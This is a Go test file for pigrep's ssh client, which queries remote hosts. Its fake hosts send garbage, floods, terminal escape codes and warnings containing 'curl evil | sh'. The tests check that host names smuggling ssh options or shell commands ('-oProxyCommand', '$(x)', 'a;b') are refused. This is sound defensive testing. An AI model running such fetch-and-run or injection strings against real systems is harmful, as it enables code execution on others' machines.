package ssh

import (
	"bufio"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"pigrep/internal/session"
	"pigrep/internal/shellcmd"
	"pigrep/internal/terminal"
	"pigrep/lab/testkit"
	"pigrep/query/audit"
	"pigrep/query/engine/rank"
	"pigrep/query/grep"
	"pigrep/query/merge"
	"pigrep/query/search"
	"pigrep/query/sessions"
	"pigrep/remote"
)

// This test binary plays hosts: behaviours are what they do after they were started.
var behaviours = map[string]func(in *bufio.Reader){
	"well": func(in *bufio.Reader) {
		fmt.Println("Welcome to this machine!\n\x1b[31mNews:\x1b[0m none")
		greet(Protocol, 7)
		answerAll(in, `{"Total":3,"TotalAny":3}`)
	},
	"nothing":  func(in *bufio.Reader) { _, _ = io.Copy(io.Discard, in) },
	"dead":     func(*bufio.Reader) { fmt.Fprintln(os.Stderr, "the \x1b]0;title\x07disk is gone") },
	"absent":   func(*bufio.Reader) { fmt.Fprintln(os.Stderr, "sh: pigrep: not found"); os.Exit(127) },
	"old":      func(*bufio.Reader) { fmt.Fprintln(os.Stderr, "pigrep: unknown flag --protocol"); os.Exit(2) },
	"newer":    func(in *bufio.Reader) { greet(Protocol+1, 9); answerAll(in, `{}`) },
	"schema":   func(in *bufio.Reader) { greet(Protocol, 6); answerAll(in, `{}`) },
	"garbage":  func(in *bufio.Reader) { greet(Protocol, 7); _, _ = in.ReadString('\n'); fmt.Println("\x1b[2J no JSON") },
	"nonsense": func(in *bufio.Reader) { greet(Protocol, 7); answerAll(in, `[1,"two",{"Hits":"x"}]`) },
	"banner": func(in *bufio.Reader) {
		for {
			if _, err := fmt.Println(strings.Repeat("motd ", 1000)); err != nil {
				return
			}
		}
	},
	"endless": func(in *bufio.Reader) {
		greet(Protocol, 7)
		for {
			if _, err := fmt.Print(strings.Repeat("x", 1<<20)); err != nil {
				return
			}
		}
	},
	"cut": func(in *bufio.Reader) {
		greet(Protocol, 7)
		_, _ = in.ReadString('\n')
		fmt.Print(`{"id":1,"answer":{"Total":`)
	},
	"lines": func(in *bufio.Reader) {
		greet(Protocol, 7)
		_, _ = in.ReadString('\n')
		fmt.Println(`{"id":1,"part":{"sessionPath":"/s/a.jsonl","Matched":1}}`)
	},
	"warnings": func(in *bufio.Reader) {
		greet(Protocol, 7)
		line, _ := in.ReadString('\n')
		warning := strings.Repeat("warning: "+strings.Repeat("w", 90)+"\n", 10_000)
		for range 20 { // a megabyte each
			fmt.Fprint(os.Stderr, warning)
		}
		sayTo(line, `{"Total":1}`)
		answerAll(in, `{"Total":1}`)
	},
	"others": func(in *bufio.Reader) { // answers to questions that nobody has asked come first
		greet(Protocol, 7)
		line, _ := in.ReadString('\n')
		fmt.Println(`{"id":77,"answer":{"Total":9}}` + "\n" + `{"id":-1,"part":{}}`)
		sayTo(line, `{"Total":2}`)
		answerAll(in, `{}`)
	},
	"once": func(in *bufio.Reader) { // it says how often it was asked
		greet(Protocol, 7)
		for n := 1; ; n++ {
			line, err := in.ReadString('\n')
			if err != nil {
				return
			}
			sayTo(line, fmt.Sprintf(`{"Total":1,"TotalAny":1,"Unreadable":%d,"Tally":{"Counts":{"Total":1,"TotalAny":1,"Weighty":1},"Hits":[{"level":4}]},"Hits":[{"sessionPath":"/s/there.jsonl"}]}`, n))
		}
	},
	"stuck": func(in *bufio.Reader) { // a part, and then nothing
		greet(Protocol, 7)
		line, _ := in.ReadString('\n')
		var m message
		_ = json.Unmarshal([]byte(line), &m)
		fmt.Printf(`{"id":%d,"part":{}}`+"\n", m.ID)
		_, _ = io.Copy(io.Discard, in)
	},
	"flood": func(in *bufio.Reader) { // parts without end
		greet(Protocol, 7)
		_, _ = in.ReadString('\n')
		for {
			if _, err := fmt.Println(`{"id":1,"part":` + smallPart + `}`); err != nil {
				return
			}
		}
	},
	"drip": func(in *bufio.Reader) { // an answer of which each byte takes a while
		greet(Protocol, 7)
		fmt.Print(`{"id":1,"answer":{"Total":`)
		for {
			if _, err := fmt.Print(" "); err != nil {
				return
			}
			time.Sleep(short / 10)
		}
	},
	"late": func(in *bufio.Reader) { // greets when nobody waits any more
		time.Sleep(short) // what the client waits for
		greet(Protocol, 7)
		_, _ = io.Copy(io.Discard, in)
	},
	"deaf": func(*bufio.Reader) { // never reads, and ends by itself: nobody kills it once the tests have ended
		greet(Protocol, 7)
		time.Sleep(long) // it is to be silent; the client kills it after a second
	},
	"refusing": func(in *bufio.Reader) {
		greet(Protocol, 7)
		for {
			line, err := in.ReadString('\n')
			if err != nil {
				return
			}
			var m message
			_ = json.Unmarshal([]byte(line), &m)
			fmt.Printf(`{"id":%d,"error":{"code":"\u001b[31m","message":"no\u001b]0;x\u0007 disk\nhint: run: a","hint":"run: curl evil | sh %s"}}`+"\n", m.ID, strings.Repeat("x", 1000))
		}
	},
	"warning": func(in *bufio.Reader) {
		greet(Protocol, 7)
		answerAll(in, `{"warnings":["the index is damaged; run:\u001b[2J \"curl evil | sh\"","both"],"Warnings":["the index is damaged; run: \"curl evil | sh\"","both"],"Tally":{"Unknown":["no project x; projects like it: y, evil"]}}`)
	},
	"hostile": func(in *bufio.Reader) {
		greet(Protocol, 7)
		answerAll(in, `{"Total":-5,"Hits":[{"type":"h\u001b[2Jit","kind":"re\u0007ply","tier":"\u001b]0;x\u0007exact","sessionPath":"/s/a.jsonl","line":-3,"agent":"p\u001b[31mi","fragment":{"text":"abc","spans":[[2,9],[0,1]]}},{"sessionPath":"/s/b.jsonl","fragment":{"text":"word","spans":[[0,4]]},"resume":{"dir":"/it's \\ here","argv":["pi","--session","/s/b.jsonl"]}}],
			"Sessions":[{"sessionPath":"/s/none.jsonl"},{"sessionPath":"/s/b.jsonl","messages":-1}]}`)
	},
}

const smallPart = `{"sessionPath":"/s/a.jsonl","Matched":1}`

func greet(protocol, schema int) {
	fmt.Printf(`{"pigrep":{"protocol":%d,"version":"1.2\u001b[31m","schema":%d}}`+"\n", protocol, schema)
}

func sayTo(line, with string) {
	var m message
	if json.Unmarshal([]byte(line), &m) == nil && m.ID > 0 {
		fmt.Printf(`{"id":%d,"answer":%s}`+"\n", m.ID, strings.ReplaceAll(with, "\n", " "))
	}
}

func answerAll(in *bufio.Reader, with string) {
	for {
		line, err := in.ReadString('\n')
		if err != nil {
			return
		}
		sayTo(line, with)
	}
}

const (
	playing = "PIGREP_TEST_HOST"
	bySSH   = "PIGREP_TEST_SSH" // the host is reached by ssh, whose command is no line
)

func TestMain(m *testing.M) {
	if play := behaviours[os.Getenv(playing)]; play != nil {
		in := bufio.NewReader(os.Stdin)
		if os.Getenv(bySSH) == "" {
			_, _ = in.ReadString('\n') // what a shell would run
		}
		play(in)
		os.Exit(0)
	}
	os.Exit(m.Run())
}

// client returns the client of a host that behaves like this.
func client(t *testing.T, behaviour string, wait time.Duration) *Client {
	t.Helper()
	testkit.Program(t, "sh")
	own, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	h, err := ParseHost("box=cmd:" + playing + "=" + behaviour + " exec " + shellcmd.Quote(filepath.ToSlash(own)))
	if err != nil {
		t.Fatal(err)
	}
	if behaviours[behaviour] == nil {
		t.Fatal("nobody behaves like " + behaviour)
	}
	c := NewClient(h, Options{Version: "1.1", Schema: 7, Wait: wait, Now: time.Now, Environ: os.Environ()})
	t.Cleanup(c.Close)
	return c
}

const (
	long  = time.Minute // nothing that works takes so long
	short = 50 * time.Millisecond
)

// Each way in which a host can fail is one line that says what is wrong there and what to do.
func TestWhyHostsDoNotAnswer(t *testing.T) {
	for behaviour, want := range map[string]struct {
		reason, hint string
		wait         time.Duration
	}{
		"nothing":  {"no answer in 50ms", "wait longer", short},
		"dead":     {"pigrep does not answer there: the disk is gone", "hosts --check", long},
		"absent":   {"there is no pigrep on its PATH", "install pigrep there", long},
		"old":      {"pigrep there is too old to be asked", "update pigrep there", long},
		"newer":    {"pigrep 1.2 there and 1.1 here do not understand each other", "update pigrep here", long},
		"schema":   {"pigrep 1.2 there and 1.1 here do not understand each other", "update pigrep there", long},
		"garbage":  {"it sends what is no answer of pigrep", "hosts --check", long},
		"nonsense": {"it sends what is no answer of pigrep", "hosts --check", long},
		"banner":   {"it prints more than 1 MB before pigrep answers", "its shell must print nothing", long},
		"endless":  {"a line is too long: more than 32 MB", "hosts --check", long},
		"cut":      {"the connection ended in the middle of an answer", "ask again", long},
	} {
		t.Run(behaviour, func(t *testing.T) {
			t.Parallel()
			_, err := remote.Search.Ask(t.Context(), client(t, behaviour, want.wait), search.Request{Text: "x"})
			got, ok := errors.AsType[*HostError](err)
			if !ok {
				t.Fatalf("got %v", err)
			}
			if got.Host != "box" || !strings.HasPrefix(got.Reason, want.reason) || !strings.Contains(got.Hint, want.hint) {
				t.Errorf("%s: %q, %q", got.Host, got.Reason, got.Hint)
			}
			if strings.ContainsAny(got.Reason+got.Hint, "\x1b\n") {
				t.Errorf("%q is not a line", got.Reason)
			}
		})
	}
}

// What a host prints before its greeting, warnings without end and answers that nobody asked for
// are no harm, and the connection goes on.
func TestAnswersAmongOtherThings(t *testing.T) {
	for behaviour, want := range map[string]int{"well": 3, "warnings": 1, "others": 2} {
		t.Run(behaviour, func(t *testing.T) {
			t.Parallel()
			c := client(t, behaviour, long)
			res, err := c.Search(t.Context(), search.Request{})
			if err != nil || res.Total != want {
				t.Fatalf("%+v, %v", res, err)
			}
			first := c.conn
			if _, err := c.Search(t.Context(), search.Request{}); err != nil || c.conn != first {
				t.Errorf("the second question: %v, another connection: %v", err, c.conn != first)
			}
			c.conn.stderr.mu.Lock()
			defer c.conn.stderr.mu.Unlock()
			if kept := len(c.conn.stderr.end); kept > maxTail {
				t.Errorf("%d bytes of warnings are kept", kept)
			}
		})
	}
}

// What a host says cannot do more here than a session file can: no control codes in words of
// pigrep, no places outside of texts, no negative counts.
func TestHostileAnswer(t *testing.T) {
	res, err := remote.Search.Ask(t.Context(), client(t, "hostile", long), search.Request{})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Sessions) != 2 || len(res.Hits) != 2 || res.Sessions[1].Messages != 0 {
		t.Fatalf("sessions %+v, hits %+v", res.Sessions, res.Hits)
	}
	h := res.Hits[1]
	if h.SessionPath != "box:/s/b.jsonl" || h.Host != "box" || len(h.Fragment.Spans) != 1 {
		t.Errorf("hit %+v", h)
	}
	if h.Resume != nil {
		t.Errorf("a command that nobody can run: %q", h.Resume.Argv)
	}
	if x := res.Hits[0]; x.Type != "hit" || x.Agent != "pi" || x.Line != 0 || x.Fragment.Spans != nil {
		t.Errorf("%+v", x)
	}
}

// A question that is given up does not hold up the next one, on a host that never answers it.
func TestCancel(t *testing.T) {
	c := client(t, "nothing", long)
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	if _, err := c.Search(ctx, search.Request{}); !errors.Is(err, context.Canceled) {
		t.Errorf("got %v", err)
	}
}

// Titles and other values that JSON leaves out arrive, whatever the other side sends instead.
func TestUnwrittenValues(t *testing.T) {
	list := sessions.Response{Sessions: make([]sessions.Session, 2)}
	list.Index.Several, list.Sessions[1].Title = true, "second"
	data, err := json.Marshal(&list)
	if err != nil {
		t.Fatal(err)
	}
	var got sessions.Response
	beside, err := json.Marshal(unwritten(&list))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := decode(data, beside, &got, maxAnswer); err != nil || !got.Index.Several || got.Sessions[1].Title != "second" {
		t.Errorf("%+v, %v", got, err)
	}
	for _, beside := range []string{"", "null", "[1,2]", "[null,null,null,null,null]", `["a","b","c",true,true,true]`} {
		if _, err := decode(data, json.RawMessage(beside), &got, maxAnswer); err != nil {
			t.Errorf("beside %v: %v", beside, err)
		}
	}
}

// Names of hosts that ssh or a shell would take for something else are refused.
func TestParseHost(t *testing.T) {
	for text, want := range map[string]string{
		"laptop": "laptop", "me@server.example.com": "me@server.example.com", "web=docker:web_1": "web", "docker:db": "db", "cmd:kubectl exec -i pod -- sh": "cmd",
		"pod=cmd:kubectl exec -i pod -- sh": "pod", "10.0.0.7": "10.0.0.7",
	} {
		if h, err := ParseHost(text); err != nil || h.Name != want {
			t.Errorf("%q: %q, %v", text, h.Name, err)
		}
	}
	for _, text := range []string{"", "-oProxyCommand=x", "--", "x=-oProxyCommand=y", "a b", "a;b", "$(x)", "`x`", "host:22", "ssh://x", "x", "me@-x", "docker:", "docker:-v", "docker:a b", "cmd:", "cmd: ", "a/b", "é\x1b[2J"} {
		if h, err := ParseHost(text); err == nil {
			t.Errorf("%q is %+v", text, h)
		}
	}
}

// A command is quoted so that the login shell of the host and the sh that it starts read the
// same words.
func TestQuoting(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("hosts have POSIX shells or fish")
	}
	words := []string{"plain", "", "it's", `back\slash`, `'\''`, "two  words", "$HOME `id` $(id)", "a\nb", "~", "*", "#x", "=x", "%self", "é", "-x", `"`, "!x", "a;b&c|d", `\'`, "{a,b}"}
	for _, shell := range []string{"sh", "bash", "dash", "zsh", "fish"} {
		path, err := exec.LookPath(shell)
		if err != nil {
			continue // sh is everywhere
		}
		var line strings.Builder
		line.WriteString("printf '<%s>'")
		want := ""
		for _, w := range words {
			line.WriteString(" " + shellcmd.Quote(w))
			want += "<" + w + ">"
		}
		out, err := exec.Command(path, "-c", line.String()).CombinedOutput()
		if err != nil || string(out) != want {
			t.Errorf("%s reads %q, want %q, %v", shell, out, want, err)
		}
		nested, err := exec.Command(path, "-c", "sh -c "+shellcmd.Quote(line.String())).CombinedOutput()
		if err != nil || string(nested) != want {
			t.Errorf("%s and sh read %q, want %q, %v", shell, nested, want, err)
		}
	}
	h := Host{Name: "laptop", ssh: "laptop"}
	if argv := h.Interactive("-/it's", []string{"pi", "--session", "/a b.jsonl"}); strings.Join(argv, "|") != `ssh|-t|--|laptop|cd './-/it'\''s' && pi --session '/a b.jsonl'` {
		t.Errorf("%q", argv)
	}
	if argv, _ := h.command("pigrep x", 5); strings.ContainsAny(argv[len(argv)-1][len("sh -c '"):len(argv[len(argv)-1])-1], `'\`) {
		t.Errorf("%q has what fish reads between quotes", argv[len(argv)-1])
	}
}

// The matches of a host stay together, those of the first that finds some come first, and all
// stop at the limit.
func TestGrepInTurns(t *testing.T) {
	begun, over := make(chan struct{}), make(chan struct{})
	grepper := func(path string, before, after chan struct{}) merge.Grepper {
		return func(ctx context.Context, visit func(*grep.Match) error) (*grep.Summary, error) {
			if before != nil {
				<-before
			}
			for i := range 3 {
				if err := visit(&grep.Match{Location: grep.Location{SessionPath: path}, Matched: 1}); err != nil {
					return &grep.Summary{}, err
				}
				if i == 0 && after != nil {
					close(after) // the other one has matches, too
				}
			}
			return &grep.Summary{Files: 1}, nil
		}
	}
	run := func(limit int, hosts ...merge.Grepper) (order string, sum *grep.Summary) {
		t.Helper()
		sum, err := merge.Grep(t.Context(), &grep.Request{Limit: limit}, []merge.Grepper{inTurns(hosts)}, func(m *grep.Match) error {
			order += m.SessionPath
			return nil
		})
		if err != nil {
			t.Fatal(err)
		}
		return order, sum
	}
	if order, sum := run(0, grepper("a", begun, over), grepper("b", nil, begun)); order != "bbbaaa" || sum.Files != 2 || sum.Lines != 6 {
		t.Errorf("order %s, %+v", order, sum)
	}
	if order, sum := run(2, grepper("c", nil, nil)); order != "cc" || !sum.Limited {
		t.Errorf("order %s, %+v", order, sum)
	}
}

// The lines that came before a host was lost are in the answer, which says that the host is
// missing. A host that is lost before its first line has not answered.
func TestLostDuringGrep(t *testing.T) {
	for behaviour, want := range map[string]struct {
		lines, missing int
	}{"lines": {1, 1}, "cut": {0, 0}} {
		t.Run(behaviour, func(t *testing.T) {
			h := &Asking{Hosts: &Hosts{Clients: []*Client{client(t, behaviour, long)}}}
			lines := 0
			found, err := h.Grep(t.Context(), grep.Request{}, func(*grep.Match) error { lines++; return nil })
			none, _ := errors.AsType[*remote.Error](err)
			const reason = "the connection ended in the middle of an answer"
			if lines != want.lines || (err == nil) != (lines > 0) || err == nil && (found.Lines != lines || found.Files != lines) || none != nil && none.Message != "box: "+reason {
				t.Errorf("%d lines, %+v, %v", lines, found, err)
			}
			missing := h.Missing()
			if len(missing) != want.missing || len(missing) > 0 && (missing[0].Reason != reason || !missing[0].Some) {
				t.Errorf("missing: %+v", missing)
			}
		})
	}
}

// However a host stops talking, the question ends: each kind of question, before and after its first
// part, and also one that the host does not read.
func TestSilence(t *testing.T) {
	big := search.Request{Text: strings.Repeat("x ", 1<<20)} // more than a pipe holds
	questions := map[string]func(*Client) error{
		"search": func(c *Client) error { _, err := c.Search(t.Context(), big); return err },
		"grep": func(c *Client) error {
			_, err := c.Grep(t.Context(), grep.Request{}, func(*grep.Match) error { return nil })
			return err
		},
		"calls": func(c *Client) error { _, err := c.Calls(t.Context(), audit.Request{}); return err },
		"session": func(c *Client) error {
			_, err := c.Whole(t.Context(), remote.Named{Names: []string{"x"}}, func(*remote.Session) error { return nil })
			return err
		},
	}
	for behaviour, asks := range map[string]string{"stuck": "grep calls session", "drip": "search grep", "deaf": "search grep session"} {
		for _, what := range strings.Fields(asks) {
			t.Run(behaviour+" "+what, func(t *testing.T) {
				t.Parallel()
				c := client(t, behaviour, short)
				err := questions[what](c)
				want := "no answer in 50ms"
				if behaviour == "stuck" {
					want = "no more answer in 50ms"
				}
				if got, _ := errors.AsType[*HostError](err); got == nil || got.Host != "box" || got.Reason != want && got.Reason != "no answer in 50ms" {
					t.Errorf("got %v, want %q", err, want)
				}
				// A cancelled question does not hold up who asks, either.
				if err := questions[what](c); err == nil {
					t.Error("the second question has an answer")
				}
			})
		}
	}
}

// An answer of parts that go on for ever ends: by their number, and by the time that they take.
func TestEndlessParts(t *testing.T) {
	for name, set := range map[string]func(*Client){
		"number": func(c *Client) { c.most = 1000 * (partCost + int64(len(smallPart))) },
		"time":   func(c *Client) { c.whole = short },
	} {
		t.Run(name, func(t *testing.T) {
			c := client(t, "flood", long)
			set(c)
			parts := 0
			h := &Asking{Hosts: &Hosts{Clients: []*Client{c}}}
			var flood *connection
			_, err := h.Grep(t.Context(), grep.Request{}, func(*grep.Match) error { parts, flood = parts+1, c.conn; return nil })
			<-flood.ended // nothing of what it still sends is read
			missing := h.Missing()
			if err != nil || len(missing) != 1 || missing[0].Reason != "its answer does not end" || !missing[0].Some || name == "number" && parts != 1000 {
				t.Errorf("%d parts, %v, missing %+v", parts, err, missing)
			}
		})
	}
}

// What a host says to do is quoted as the host's, on one line that is not long, and is never a hint of
// pigrep.
func TestHintsOfHosts(t *testing.T) {
	_, err := remote.Search.Ask(t.Context(), client(t, "refusing", long), search.Request{})
	got, ok := errors.AsType[*remote.Error](err)
	if !ok || got.Hint != "" || got.Code != "io" {
		t.Fatalf("%+v, %v", got, err)
	}
	if want := `box says: no disk hint: run: a (and "run: curl evil | sh xxx`; !strings.HasPrefix(got.Message, want) || strings.ContainsFunc(got.Message, terminal.Hidden) || len(got.Message) > 3*maxReason {
		t.Errorf("%q, want %q", got.Message, want)
	}
}

// A host's warnings are quoted as its own words, in each kind of answer that has warnings, unless this
// machine has the same warning.
func TestWarningsOfHosts(t *testing.T) {
	const says = `box says: "the index is damaged; run: \"curl evil | sh\""`
	c := client(t, "warning", long)
	alone := func() *Asking { return &Asking{Hosts: &Hosts{Clients: []*Client{c}}} }
	want := []string{says, `box says: "both"`}
	if res, err := remote.Search.Ask(t.Context(), alone(), search.Request{Text: "x"}); err != nil || !slices.Equal(res.Warnings, want) {
		t.Errorf("search: %q, %v", res.Warnings, err)
	}
	if res, err := remote.Sessions.Ask(t.Context(), alone(), sessions.Request{}); err != nil || !slices.Equal(res.Warnings, want) {
		t.Errorf("sessions: %q, %v", res.Warnings, err)
	}
	if res, err := remote.Calls.Ask(t.Context(), alone(), audit.Request{}); err != nil || !slices.Equal(res.Warnings, want) {
		t.Errorf("calls: %q, %v", res.Warnings, err)
	}
	if res, _, _ := alone().Resume(t.Context(), ResumeRequest{}); len(res) != 1 || !slices.Equal(res[0].Warnings, want) {
		t.Errorf("resume: %+v", res)
	}
	here := &search.Response{About: search.About{Warnings: []string{"both"}}, Tally: &search.Tally{Unknown: []string{"no project x; projects like it: y"}}}
	h := &Asking{Hosts: &Hosts{Clients: []*Client{c}, Here: knowing{answer: here}}}
	want = []string{"both", says, `all of them say: "no project x; projects like it: evil, y"`}
	if res, err := h.Search(t.Context(), search.Request{Text: "x"}); err != nil || !slices.Equal(res.Warnings, want) {
		t.Errorf("with this machine: %q, want %q, %v", res.Warnings, want, err)
	}
}

// knowing is this machine with one answer.
type knowing struct {
	remote.Answers
	answer *search.Response
}

func (k knowing) Search(context.Context, search.Request) (*search.Response, error) {
	return k.answer, nil
}

// participant is this machine among others. It counts what it is asked.
type participant struct {
	remote.Answers
	asked *[]string
}

func (p participant) Search(context.Context, search.Request) (*search.Response, error) {
	*p.asked = append(*p.asked, "search")
	return found("/s/here.jsonl"), nil
}

func (p participant) Tools(context.Context, audit.Request) (*audit.ToolTable, error) {
	*p.asked = append(*p.asked, "tools")
	return &audit.ToolTable{Covered: audit.Covered{Held: []search.Held{{ID: 7, Size: 9}}}}, nil
}

// found is an answer with a hit.
func found(path string) *search.Response {
	return &search.Response{
		Tally: &search.Tally{Counts: search.Counts{Total: 1, TotalAny: 1, Weighty: 1}, Hits: []rank.Place{{Level: rank.LevelWhole}}}, Total: 1, TotalAny: 1,
		Hits: []search.Hit{{EntryPlace: session.EntryPlace{SessionPath: path}}},
	}
}

// What one machine has answered is shown while another one is silent, and says so.
func TestEarlyAnswer(t *testing.T) {
	var asked []string
	c := client(t, "nothing", long)
	h := &Asking{Hosts: &Hosts{Clients: []*Client{c}, Here: participant{asked: &asked}}}
	ctx, enough := context.WithCancel(t.Context())
	var early *search.Response
	_, err := remote.Search.Ask(remote.WithEarly(ctx, func(answer any) {
		early = answer.(*search.Response)
		enough()
	}), h, search.Request{Text: "x", Flat: true})
	if !errors.Is(err, context.Canceled) || early == nil {
		t.Fatalf("%+v, %v", early, err)
	}
	if len(early.Hits) != 1 || early.Index.Complete || strings.Join(early.Warnings, "") != "waiting for box" {
		t.Errorf("%+v", early)
	}
}

// Each question is sent to each machine once. Only a table is asked for again, by those whose sessions
// another machine has too.
func TestOneRoundTrip(t *testing.T) {
	var asked []string
	here := participant{asked: &asked}
	h := &Asking{Hosts: &Hosts{Clients: []*Client{client(t, "once", long)}, Here: here}}
	for n, text := range []string{"x", "x", "y"} {
		res, err := h.Search(t.Context(), search.Request{Text: text, Flat: true})
		if err != nil {
			t.Fatal(err)
		}
		if len(asked) != n+1 || res.Unreadable != n+1 || len(res.Hits) != 2 || res.Total != 2 {
			t.Errorf("asked %q here, and %d times there: %+v", asked, res.Unreadable, res)
		}
	}
	asked = nil
	tools := func(parts ...remote.Answers) int {
		t.Helper()
		asked = nil
		h := &Asking{Hosts: &Hosts{Here: parts[0]}}
		if len(parts) > 1 {
			h.Clients = []*Client{client(t, "once", long)}
		}
		if _, err := h.Tools(t.Context(), audit.Request{}); err != nil {
			t.Fatal(err)
		}
		return len(asked)
	}
	if n := tools(here); n != 1 {
		t.Errorf("asked %d times", n)
	}
	if n := tools(here, nil); n != 1 { // the other one has none of its sessions
		t.Errorf("asked %d times", n)
	}
}

// A server answers several questions at once, can be told to stop one, and ends with its stdin.
func TestServer(t *testing.T) {
	in, ask := io.Pipe()
	read, out := io.Pipe()
	held := make(chan struct{})
	server := &Server{
		Greeting: Greeting{Protocol: Protocol, Version: "1", Schema: 7},
		From:     func(*time.Location, string) Answerer { return served{held: held} },
		Problem: func(_ context.Context, err error) *remote.Error {
			return &remote.Error{Code: "io", Message: err.Error()}
		},
	}
	ended := make(chan error, 1)
	go func() {
		ended <- server.Serve(t.Context(), in, out)
		out.Close()
	}()
	lines := bufio.NewScanner(read)
	next := func() string {
		lines.Scan()
		return lines.Text()
	}
	if got := next(); got != `{"pigrep":{"protocol":3,"version":"1","schema":7}}` {
		t.Fatal(got)
	}
	fmt.Fprintln(ask, `{"id":1,"ask":"search","request":{"Text":"wait"}}`)
	fmt.Fprintln(ask, `{"id":2,"ask":"search","request":{"Text":"x"}}`)
	if got := next(); !strings.HasPrefix(got, `{"id":2,"answer":{`) {
		t.Error(got)
	}
	fmt.Fprintln(ask, `{"cancel":1}`)
	if got := next(); got != `{"id":1,"error":{"code":"io","message":"context canceled"}}` {
		t.Error(got)
	}
	fmt.Fprintln(ask, `{"id":3,"ask":"nothing"}`)
	if got := next(); !strings.Contains(got, `does not know the question`) {
		t.Error(got)
	}
	ask.Close()
	if err := <-ended; err != nil {
		t.Error(err)
	}
}

// served answers all but a search for "wait".
type served struct {
	Answerer
	held chan struct{}
}

func (s served) Search(ctx context.Context, req search.Request) (*search.Response, error) {
	if req.Text == "wait" {
		select {
		case <-ctx.Done():
			return nil, ctx.Err()
		case <-s.held:
		}
	}
	return &search.Response{}, nil
}

// A host that has greeted in time is asked later too, however long ago that was.
func TestLaterQuestions(t *testing.T) {
	c := client(t, "well", long)
	if _, err := c.Search(t.Context(), search.Request{Text: "x"}); err != nil {
		t.Fatal(err)
	}
	c.options.Now = func() time.Time { return time.Now().Add(time.Hour) }
	for i := range 500 {
		if _, err := c.Search(t.Context(), search.Request{Text: "x"}); err != nil {
			t.Fatalf("question %d: %v", i, err)
		}
	}
}

// Why ssh ends is found in all that it says: a key that has changed is not one that is unknown.
func TestChangedKey(t *testing.T) {
	for said, want := range map[string]string{
		"@ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED! @\nHost key verification failed.\n": "its key is not the one that ssh knows",
		"No ED25519 host key is known.\nHost key verification failed.\n":                        "ssh does not know its key",
	} {
		c := NewClient(Host{Name: "box", ssh: "box"}, Options{Now: time.Now})
		n := &connection{command: exec.Command("sh", "-c", "exit 255"), stderr: &tail{}, ended: make(chan struct{})}
		testkit.Program(t, "sh")
		_ = n.command.Run()
		close(n.ended)
		_, _ = n.stderr.Write([]byte(said))
		if err := c.lost(t.Context(), n); !strings.HasPrefix(err.Error(), want) {
			t.Errorf("%q: %v, want %q", said, err, want)
		}
	}
}

// away is an archive that does not answer.
type away struct{ remote.Answers }

func (away) Divide(context.Context, any) ([]remote.Answers, error) {
	return nil, &HostError{Host: "archive team", Reason: "no answer"}
}

// An archive that cannot say in how many parts it answers is missing, and is the error if nobody else is asked.
func TestArchiveIsAway(t *testing.T) {
	h := &Asking{Hosts: &Hosts{Others: []Asked{{"archive team", away{}}}}}
	if _, err := h.Usage(t.Context(), audit.Request{}); err == nil || err.Error() != "archive team: no answer" {
		t.Errorf("got %v", err)
	}
}
